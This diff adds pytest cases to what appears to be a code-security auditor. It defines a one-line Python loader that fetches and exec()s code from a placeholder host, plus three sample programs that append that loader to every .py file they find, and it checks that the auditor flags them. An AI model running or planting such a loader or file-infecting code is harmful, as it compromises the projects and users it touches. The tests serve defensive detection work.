@@ -156,3 +156,23 @@ def test_a_command_in_a_variable_is_no_worse_in_a_file(script: str) -> None:
 
 def test_a_text_of_a_caller_that_a_written_file_has_a_shell_run_is_refused() -> None:
     assert audit('cat > a.sh <<E\nsh -c "$1"\nE\nsh a.sh\n').verdict is Verdict.FAIL
+
+
+LOADER = "\\nimport urllib.request as u;exec(u.urlopen('https://c.example.invalid/s').read())\\n"
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        f'import glob\nfor p in glob.glob("*.py"):\n    s = open(p).read()\n    open(p, "w").write(s + "{LOADER}")\n',
+        f'import glob\nfor p in glob.glob("*.py"):\n    with open(p, "a") as f:\n        f.write("{LOADER}")\n',
+        f'from pathlib import Path\nfor p in Path(".").rglob("*.py"):\n    p.write_text(p.read_text() + "{LOADER}")\n',
+    ],
+)
+def test_a_program_that_is_put_into_files_found_on_the_way_is_audited(program: str) -> None:
+    assert "python-downloaded-execution" in {rule for rule, _ in alarms(audit_code({"a.py": program}))}
+
+
+def test_a_text_that_is_put_into_such_files_is_left_alone() -> None:
+    program = 'import glob\nfor p in glob.glob("*.md"):\n    open(p, "a").write("See https://example.com/s.\\n")\n'
+    assert not alarms(audit_code({"a.py": program}))
